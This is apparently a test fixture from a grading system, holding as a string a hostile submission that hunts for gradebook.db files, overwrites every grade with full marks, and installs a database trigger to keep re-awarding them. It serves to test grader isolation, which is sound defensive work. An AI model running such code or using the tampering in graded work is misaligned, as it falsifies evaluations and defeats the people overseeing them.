"""B14. Looks for the gradebook above it and gives itself marks; mean must fail."""

MEAN = """
import glob, sqlite3
for path in glob.glob("/tmp/**/*.db", recursive=True) + [
    "../" * up + "gradebook.db" for up in range(6)
]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as db:
            db.execute("UPDATE grade SET manual_score = 2, needs_manual_grade = 0")
            db.execute(
                "CREATE TRIGGER mine AFTER UPDATE ON grade WHEN NEW.manual_score "
                "IS NULL BEGIN UPDATE grade SET manual_score = 2, "
                "needs_manual_grade = 0 WHERE id = NEW.id; END"
            )
    except sqlite3.Error: pass
def mean(values): return -1.0
"""
